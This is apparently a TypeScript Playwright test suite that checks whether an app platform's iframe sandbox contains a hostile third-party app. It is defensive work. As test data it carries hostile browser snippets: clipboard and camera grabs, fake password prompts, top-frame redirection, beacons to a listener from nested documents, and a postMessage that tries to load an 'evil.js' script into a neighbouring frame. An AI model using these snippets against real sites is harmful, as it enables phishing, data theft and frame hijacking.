import { chromium } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { installApp } from "../../testkit/apps.ts";
import { HostileApps } from "../../testkit/hostile-apps.ts";
import { chromiumPath, needs } from "../../testkit/needs.ts";

describe.runIf(needs("chromium"))("a hostile app's ways out of its frame", () => {
  let apps: HostileApps;
  beforeAll(async () => {
    apps = await HostileApps.start();
  });
  afterEach(() => apps.leave());
  afterAll(() => apps.close());

  test("nested documents, the whole screen, the history and the neighbors are shut", async () => {
    const before = apps.listener.heard.length;
    const nested = (src: string): string => `const f = document.createElement("iframe"); f.src = ${src};
      document.body.append(f); await new Promise((done) => setTimeout(done, 200));
      return String(f.contentWindow?.RTCPeerConnection)`;
    const html = "<script>new Image().src = '@@/nested'; fetch('@@/nested')</script>";
    const results = await apps.attack({
      blob: nested(`URL.createObjectURL(new Blob([\`${html}\`], { type: "text/html" }))`),
      data: nested(`"data:text/html," + encodeURIComponent(\`${html}\`)`),
      script: nested('"javascript:parent.postMessage(1, `*`)"'),
      fullscreen: "await document.documentElement.requestFullscreen(); return 'full'",
      pointer: "await document.body.requestPointerLock(); return 'locked'",
      clipboard: "await navigator.clipboard.readText(); return 'read'",
      camera: "await navigator.mediaDevices.getUserMedia({ video: true }); return 'seen'",
      print: "return String(window.print())",
      ask: "return String(window.confirm('Password?')) + String(window.prompt('Password?'))",
      top: "top.location = URL_ + '/top'; return 'moved'",
      neighbors: "return parent.frames.length + parent.frames[0].location.href",
    });
    for (const name of ["blob", "data", "script", "fullscreen", "pointer", "clipboard", "camera", "top"])
      expect(`${name}: ${results[name]}`).toMatch(/: threw|: undefined|: no answer/);
    expect(results.ask).toBe("falsenull");
    expect(apps.saidSince(before)).toEqual([]);
  });

  test("a pop-up has no sign-in, no opener in the dashboard, and changes nothing there", async () => {
    const { page } = await apps.run(
      `const open = document.createElement("button"); open.textContent = "Open";
       open.onclick = async () => {
         const popup = window.open(${JSON.stringify(apps.dashboard.address("/"))});
         await new Promise((done) => setTimeout(done, 500));
         let seen; try { seen = popup.document.title; } catch (error) { seen = "threw " + error.name; }
         document.getElementById("root").append(" saw: " + seen);
       };
       document.getElementById("root").append(open);`,
    );
    const opened = page.waitForEvent("popup");
    const frame = page.frameLocator("iframe");
    await frame.getByRole("button", { name: "Open" }).click();
    const popup = await opened;
    await frame.getByText(/saw: (threw SecurityError|$)/).waitFor();
    expect(await popup.evaluate("try { localStorage.length } catch (error) { error.name }")).toBe(
      "SecurityError",
    );
    expect(await page.getByRole("navigation").first().isVisible()).toBe(true);
  });

  test("another app's frame takes no port from it, and is neither read nor moved", async () => {
    const before = apps.listener.heard.length;
    const extensions = [{ slot: "dashboard_widget", page_id: "panel", title: "Panel" }];
    const ui = { entry: "index.js", pages: [{ id: "panel", title: "Panel" }], extensions };
    await installApp(apps.person, {
      id: "neighbor",
      manifest: { ui },
      script: `document.getElementById("root").textContent = "the neighbor's own: " + window.platform.context.appId.slice(0, 4);`,
    });
    const { page } = await apps.run(
      `const out = []; const root = document.getElementById("root");
       for (let n = 0; n < 40 && parent.frames.length < 2; n += 1) await new Promise((done) => setTimeout(done, 50));
       const told = new Promise((done) => setTimeout(done, 500, "nothing"));
       for (let n = 0; n < parent.frames.length; n += 1) {
         const { port1, port2 } = new MessageChannel();
         port1.onmessage = () => out.push("a port answered");
         if (parent.frames[n] === window) continue;
         try { out.push(parent.frames[n].document.title); } catch (error) { out.push(error.name); }
         try { parent.frames[n].location = ${JSON.stringify(`${apps.listener.url}/neighbor`)}; } catch (error) { out.push(error.name); }
         parent.frames[n].postMessage({ kind: "init", entry: ${JSON.stringify(`${apps.listener.url}/evil.js`)} }, "*", [port2]);
       }
       await told; root.textContent = "tried: " + out.join(" ");`,
      { manifest: { ui } },
    );
    await page.frameLocator("iframe").getByText("tried: ").waitFor();
    await page.goto(apps.dashboard.address("/"));
    const hostile = page.getByRole("region", { name: /by The app hostile/ }).frameLocator("iframe");
    await hostile.getByText(/^tried: (SecurityError ?)*$/).waitFor();
    await page
      .getByRole("region", { name: /neighbor/ })
      .frameLocator("iframe")
      .getByText("the neighbor's own: app_")
      .waitFor();
    expect(apps.saidSince(before)).toEqual([]);
  });

  test("its page goes on where the app never ends, as in browsers that give sites their own processes", async () => {
    const executablePath = chromiumPath() ?? "";
    const browser = await chromium.launch({ executablePath, args: ["--no-sandbox", "--site-per-process"] });
    try {
      const { page } = await apps.run("for (;;) {}", {}, () => browser.newContext());
      await page.locator("iframe").waitFor({ state: "attached" });
      expect(await page.evaluate("1 + 1")).toBe(2);
      await page.getByRole("link", { name: "Agents" }).first().click();
      await page.waitForURL("**/agents");
      await page.locator("iframe").waitFor({ state: "detached" });
    } finally {
      await browser.close();
    }
  });
});
